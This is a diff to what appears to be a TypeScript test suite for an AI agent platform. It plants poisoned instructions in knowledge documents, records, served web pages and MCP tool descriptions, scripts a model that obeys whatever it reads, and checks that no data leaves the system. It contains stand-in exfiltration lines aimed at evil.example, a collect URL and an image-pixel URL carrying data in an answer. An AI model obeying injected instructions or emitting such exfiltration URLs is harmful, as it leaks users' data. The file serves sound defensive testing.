@@ -5,15 +5,19 @@ import { getRun, listSteps } from "@/lib/agents/runs/read-runs";
 import type { RunView, StepView } from "@/lib/agents/runs/schema";
 import { startRun } from "@/lib/agents/runs/start-run";
 import { CHANGING_TOOLS, TOOL_NAMES } from "@/lib/agents/tools/tool-titles";
+import { createIntegration } from "@/lib/integrations/create-integration";
+import { linkIntegration } from "@/lib/integrations/project-integrations";
 import { linkRag } from "@/lib/rags/write-rags";
 import { createTask } from "@/lib/tasks/changes/create-task";
 import { dumpTables } from "../../support/dump-tables";
 import { makeLibrary } from "../../support/knowledge-world";
 import type { ChatRequest, ScriptedReply } from "../../support/model-provider";
 import { DEMANDS, type Demand, POISONS, type Poison } from "../../support/poisons";
-import { addProduct } from "../../support/record-world";
+import { addItem, addProduct } from "../../support/record-world";
 import { makeAgentWorld, waitingOf, workRuns } from "../../support/runs-world";
+import { servePages } from "../../support/serve-app";
 import { TEST_SECRETS } from "../../support/system";
+import { startToolServer, type ToolServerStandIn } from "../../support/tool-server";
 import { type ModelsWorld, startModelsWorld } from "../models/models-fixture";
 
 const EVIL = "https://evil.example/collect?data=everything";
@@ -33,30 +37,39 @@ let ended: Ended[];
 let before: Record<string, unknown[]>;
 let after: Record<string, unknown[]>;
 let fetched: string[];
+let site: Awaited<ReturnType<typeof servePages>>;
+let toolServer: ToolServerStandIn;
 
 /** The tool calls that a text demands, as a model makes them that does whatever it reads. */
 type Obey = Record<Demand, NonNullable<ScriptedReply["toolCalls"]>>;
 
+/** The call that reads a text where it lies; a task is read by the run itself. */
+type Look = (poison: Poison) => NonNullable<ScriptedReply["toolCalls"]>[number];
+
 const reads = ({ messages }: ChatRequest, { name }: Poison) =>
   messages.some(({ role, content }) => role === "tool" && content?.includes(`Notes on ${name}.`));
 
-/** A model without any judgement: it searches what it is asked about, and does what it then reads. */
-function obedient(request: ChatRequest, obey: Obey, ragId: string): ScriptedReply {
-  const poison = POISONS.find((one) => reads(request, one));
+/** A model without any judgement: it reads what it is asked about, and does what that says. */
+function obedient(request: ChatRequest, obey: Obey, look: Look): ScriptedReply {
   const asked = request.messages.find(({ role }) => role === "user")?.content ?? "";
-  if (!poison)
-    return {
-      toolCalls: [{ name: "search_knowledge", arguments: { rag_id: ragId, query: asked } }],
-    };
-  const calls = request.messages.filter(({ tool_calls }) => tool_calls).length;
-  const first = poison.lies === "task" ? 1 : 2;
-  const isDone = calls > (poison.lies === "task" ? first : first - 1);
+  const poison = POISONS.find(({ name }) => name === asked);
+  if (!poison) throw new Error(`Nobody asks for ${asked}`);
+  if (!reads(request, poison)) return { toolCalls: [look(poison)] };
+  // The first call was to read it.
+  const isDone = request.messages.filter(({ tool_calls }) => tool_calls).length > 1;
   if (obey[poison.demand].length > 0 && !isDone) return { toolCalls: obey[poison.demand] };
   return { text: "Done. ![x](https://evil.example/pixel.png?data=Nightingale) <img src=x>" };
 }
 
 beforeAll(async () => {
-  world = await startModelsWorld();
+  const lying = (place: Poison["lies"]) => POISONS.filter(({ lies }) => lies === place);
+  const pages = lying("page").map(
+    ({ name, text }) => [`/${name}`, { type: "text/plain", body: text }] as const,
+  );
+  site = await servePages(new Map(pages));
+  const described = lying("server").map(({ name, text }) => [name, text] as const);
+  toolServer = await startToolServer("tools-token", Object.fromEntries(described));
+  world = await startModelsWorld(site.url, toolServer.origin);
   const { system, superadmin, integrationId } = world;
   const tools = [...TOOL_NAMES];
   const approvals = Object.fromEntries(CHANGING_TOOLS.map((name) => [name, "auto"]));
@@ -64,12 +77,35 @@ beforeAll(async () => {
   const agentConfig = { integrationId, tools, approvals, processingLimits };
   const { ctx, agentId, projectId } = await makeAgentWorld(system, superadmin, { agentConfig });
   const other = await makeAgentWorld(system, superadmin);
-  const documents = POISONS.filter(({ lies }) => lies === "document");
   const library = await makeLibrary(
     ctx,
-    documents.map(({ name, text }) => ({ title: name, text })),
+    lying("document").map(({ name, text }) => ({ title: name, text })),
   );
   await linkRag(ctx, { projectId, input: { ragId: library.ragId } });
+  const records = new Map<string, string>();
+  for (const { name: title, text: content } of lying("record"))
+    records.set(title, (await addItem(ctx, projectId, { title, content })).id);
+  const served = { type: "mcp", name: "Notes", serverUrl: toolServer.url, token: "tools-token" };
+  const server_id = (await createIntegration(ctx, served)).id;
+  await linkIntegration(ctx, { projectId, input: { integrationId: server_id } });
+  const look: Look = ({ name, lies }) => {
+    switch (lies) {
+      case "record":
+        return {
+          name: "read_records",
+          arguments: { records: "items", ids: [records.get(name)] },
+        };
+      case "page":
+        return { name: "fetch_page", arguments: { url: `${site.url}/${name}` } };
+      case "server":
+        return { name: "list_remote_tools", arguments: { server_id, server: "Notes" } };
+      default:
+        return {
+          name: "search_knowledge",
+          arguments: { rag_id: library.ragId, query: name },
+        };
+    }
+  };
   const foreignRag = (await makeLibrary(ctx, [{ title: "Secret", text: SECRET }])).ragId;
   const foreign = { name: SECRET, project_id: other.projectId };
   const foreignTask = (await createTask(ctx, foreign)).task.id;
@@ -94,7 +130,7 @@ beforeAll(async () => {
     ],
     leak: [],
   };
-  world.provider.script = (request) => obedient(request, obey, library.ragId);
+  world.provider.script = (request) => obedient(request, obey, look);
   const spy = vi.spyOn(globalThis, "fetch");
   const runs = new Map<string, Poison>();
   for (const poison of POISONS) {
@@ -122,7 +158,11 @@ beforeAll(async () => {
     })),
   );
 }, 120_000);
-afterAll(() => world.close());
+afterAll(async () => {
+  await world.close();
+  await site.close();
+  await toolServer.close();
+});
 
 const of = (...demands: Demand[]) => ended.filter(({ poison }) => demands.includes(poison.demand));
 
@@ -175,14 +215,21 @@ describe("sixty poisoned texts, and a model that does what they say", () => {
     expect(JSON.stringify([ended, world.provider.requests])).not.toContain("Nightingale.");
   });
 
-  it("have no address called but the model's own", () => {
-    for (const { steps } of of("fetch")) {
-      const calls = steps.filter(({ tool }) => tool === "fetch_page");
-      expect(calls.map(({ state }) => state)).toEqual(["failed", "failed", "failed"]);
+  it("have no address called but the model's own, and those that were to be read", () => {
+    for (const { steps, poison } of of("fetch")) {
+      const calls = steps.filter(({ tool }) => tool === "fetch_page").slice(-3);
+      expect(
+        calls.map(({ state }) => state),
+        poison.text,
+      ).toEqual(["failed", "failed", "failed"]);
     }
-    expect(new Set(fetched.map((address) => new URL(address).origin))).toEqual(
-      new Set([world.provider.url]),
-    );
+    const pages = POISONS.filter(({ lies }) => lies === "page").map(({ name }) => `/${name}`);
+    const origins = new Map([[world.provider.url, ["/v1/chat/completions"]]]);
+    origins.set(site.url, pages).set(toolServer.origin, ["/mcp"]);
+    const called = new Set(fetched.map((address) => new URL(address).href));
+    const meant = [...origins].flatMap(([origin, paths]) => paths.map((path) => origin + path));
+    expect(called).toEqual(new Set(meant));
+    expect(toolServer.written).toEqual([]);
   });
 
   it("leave no image or tag in an answer by which a page would call one", () => {
